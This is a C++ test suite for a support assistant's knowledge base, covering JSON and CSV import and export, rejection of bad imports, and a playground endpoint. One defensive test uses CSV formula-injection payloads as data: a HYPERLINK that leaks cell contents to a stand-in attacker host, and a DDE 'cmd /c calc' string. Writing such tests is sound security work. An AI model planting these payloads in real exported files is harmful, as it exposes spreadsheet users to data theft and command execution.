// Knowledge in bulk (import and export as JSON and CSV, all or nothing) and the test playground.
#include <set>

#include "support/scenario.hpp"

namespace baton::testing {
namespace {
namespace json = boost::json;

class KnowledgeIo : public ServerTest {
 protected:
  std::string knowledge_path(const std::string& assistant) { return "/api/v1/assistants/" + assistant + "/knowledge"; }
  std::size_t count(const std::string& assistant, const std::string& agent) {
    return http_->get(knowledge_path(assistant), agent).json().at("knowledge").as_array().size();
  }
};

TEST_F(KnowledgeIo, CsvFromASpreadsheetImportsAndExportsTheSame) {
  const auto assistant = new_assistant(true);
  const auto agent = new_agent("Mei");
  const std::string csv =
      "\xEF\xBB\xBFquestion,answer\r\n"
      "\"運費怎麼算?\",\"滿 NT$1,500 免運\"\r\n"
      "Do you gift wrap?,\"Yes, with a \"\"thank you\"\" card.\nFree.\"\r\n";
  auto imported =
      http_->request("POST", knowledge_path(assistant) + "/import", csv, agent, {{"Content-Type", "text/csv"}});
  ASSERT_EQ(imported.status, 200) << imported.body;
  EXPECT_EQ(imported.json().at("imported").as_int64(), 2);

  auto exported = http_->get(knowledge_path(assistant) + "/export?format=csv", agent);
  ASSERT_EQ(exported.status, 200);
  EXPECT_EQ(exported.headers.at("content-type"), "text/csv; charset=utf-8");
  EXPECT_NE(exported.headers.at("content-disposition").find("attachment"), std::string::npos);
  EXPECT_NE(exported.body.find("\"Yes, with a \"\"thank you\"\" card.\nFree.\""), std::string::npos)
      << exported.body;  // line breaks inside fields stay inside the quotes

  // What was exported imports again as it was (replace: the same two entries, not four).
  auto again = http_->request("POST", knowledge_path(assistant) + "/import?mode=replace", exported.body, admin_token(),
                              {{"Content-Type", "text/csv"}});
  ASSERT_EQ(again.status, 200) << again.body;
  EXPECT_EQ(count(assistant, agent), 2u);
}

TEST_F(KnowledgeIo, TheCsvExportNeverHandsASpreadsheetAFormulaAndImportsBackAsItWas) {
  const auto assistant = new_assistant(true);
  const std::string question = R"(=HYPERLINK("http://evil.example/?x="&A1,"click"))";
  const std::string answer = R"(@SUM(1+1)*cmd|"/c calc"!A1)";
  add_knowledge(assistant, question, answer);
  add_knowledge(assistant, "+886 or -5?", "Price: =5, not a formula");

  auto exported = http_->get(knowledge_path(assistant) + "/export?format=csv", admin_token());
  ASSERT_EQ(exported.status, 200);
  const std::string escaped =
      R"csv("'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")","'@SUM(1+1)*cmd|""/c calc""!A1")csv";
  EXPECT_NE(exported.body.find(escaped), std::string::npos) << exported.body;
  EXPECT_NE(exported.body.find("'+886 or -5?,\"Price: =5, not a formula\""), std::string::npos) << exported.body;

  auto again = http_->request("POST", knowledge_path(assistant) + "/import?mode=replace", exported.body, admin_token(),
                              {{"Content-Type", "text/csv"}});
  ASSERT_EQ(again.status, 200) << again.body;
  std::set<std::pair<std::string, std::string>> entries;
  const auto listed = http_->get(knowledge_path(assistant), admin_token()).json();
  for (const auto& entry : listed.at("knowledge").as_array()) {
    entries.emplace(str(entry.at("question")), str(entry.at("answer")));
  }
  EXPECT_EQ(entries, (std::set<std::pair<std::string, std::string>>{{question, answer},
                                                                    {"+886 or -5?", "Price: =5, not a formula"}}));
}

TEST_F(KnowledgeIo, JsonImportAppendsOrReplacesAndTheAiUsesItAtOnce) {
  const auto assistant = new_assistant(true);
  const auto agent = new_agent("Lin");
  auto first = http_->request("POST", knowledge_path(assistant) + "/import",
                              R"([{"question": "Do you ship to Japan?", "answer": "Yes, in 5 days."}])", agent);
  ASSERT_EQ(first.status, 200) << first.body;
  auto exported = http_->get(knowledge_path(assistant) + "/export", agent);
  ASSERT_EQ(exported.status, 200);
  ASSERT_TRUE(exported.json().is_array());
  auto appended =
      http_->request("POST", knowledge_path(assistant) + "/import?mode=append",
                     R"({"knowledge": [{"question": "Is there an app?", "answer": "Yes, on iOS."}]})", agent);
  ASSERT_EQ(appended.status, 200) << appended.body;
  EXPECT_EQ(count(assistant, agent), 2u);

  auto visitor = new_visitor(assistant);
  auto widget = widget_socket(visitor);
  send_customer(visitor, "Is there an app?");
  EXPECT_EQ(widget->wait_for("message.created", message_from("ai")).at("message").at("text"), "Yes, on iOS.");

  auto replaced = http_->request("POST", knowledge_path(assistant) + "/import?mode=replace",
                                 R"([{"question": "Is there an app?", "answer": "Not yet."}])", admin_token());
  ASSERT_EQ(replaced.status, 200) << replaced.body;
  EXPECT_EQ(count(assistant, agent), 1u);
  send_customer(visitor, "Is there an app?");
  EXPECT_EQ(widget->wait_for("message.created", message_from("ai")).at("message").at("text"), "Not yet.");
}

TEST_F(KnowledgeIo, ABadEntryRejectsTheWholeImport) {
  const auto assistant = new_assistant(true);
  const auto agent = new_agent("Kai");
  http_->request("POST", knowledge_path(assistant) + "/import", R"([{"question": "Q1", "answer": "A1"}])", agent);
  for (const auto& [body, type] : std::vector<std::pair<std::string, std::string>>{
           {R"([{"question": "ok", "answer": "ok"}, {"question": "", "answer": "empty question"}])",
            "application/json"},
           {R"([{"question": "ok", "answer": "ok"}, "not an object"])", "application/json"},
           {R"({"entries": []})", "application/json"},
           {"[]", "application/json"},
           {"not json", "application/json"},
           {"title,body\r\nq,a\r\n", "text/csv"},
           {"question,answer\r\n\"unterminated,a\r\n", "text/csv"},
           {"question,answer\r\nonly one column\r\n", "text/csv"}}) {
    auto reply = http_->request("POST", knowledge_path(assistant) + "/import?mode=replace", body, admin_token(),
                                {{"Content-Type", type}});
    EXPECT_EQ(reply.status, 400) << body << " → " << reply.body;
  }
  EXPECT_EQ(count(assistant, agent), 1u);  // the replace never happened
  EXPECT_EQ(http_->request("POST", knowledge_path(assistant) + "/import?mode=merge", "[]", agent).status, 400);
  EXPECT_EQ(http_->get(knowledge_path(assistant) + "/export?format=xml", agent).status, 400);
  EXPECT_EQ(http_->get(knowledge_path("asst_nope") + "/export", agent).status, 404);
}

TEST_F(KnowledgeIo, ThePlaygroundShowsTheAnswerItsEntryAndItsScoreWithoutAConversation) {
  const auto assistant = new_assistant(true);
  const auto agent = new_agent("Ana");
  http_->request("POST", knowledge_path(assistant) + "/import",
                 R"([{"question": "Do you ship to Japan?", "answer": "Yes, in 5 days."},
                     {"question": "How do I reset my password?", "answer": "Use Forgot password."}])",
                 agent);
  auto asked = http_->post("/api/v1/assistants/" + assistant + "/playground", {{"text", "ship to japan?"}}, agent);
  ASSERT_EQ(asked.status, 200) << asked.body;
  const auto answer = asked.json().as_object();
  EXPECT_EQ(answer.at("kind"), "answer");
  EXPECT_EQ(answer.at("text"), "Yes, in 5 days.");
  EXPECT_GT(answer.at("score").as_double(), 0.25);
  ASSERT_FALSE(answer.at("candidates").as_array().empty());
  EXPECT_EQ(answer.at("candidates").at(0).at("question"), "Do you ship to Japan?");

  auto unknown = http_->post("/api/v1/assistants/" + assistant + "/playground", {{"text", "Who won the game?"}}, agent);
  EXPECT_EQ(unknown.json().at("kind"), "fallback");
  EXPECT_TRUE(http_->get("/api/v1/conversations", admin_token()).json().at("conversations").as_array().empty());
  EXPECT_EQ(http_->post("/api/v1/assistants/" + assistant + "/playground", {{"text", "   "}}, agent).status, 400);
  EXPECT_EQ(http_->post("/api/v1/assistants/asst_nope/playground", {{"text", "hi"}}, agent).status, 404);
}

}  // namespace
}  // namespace baton::testing
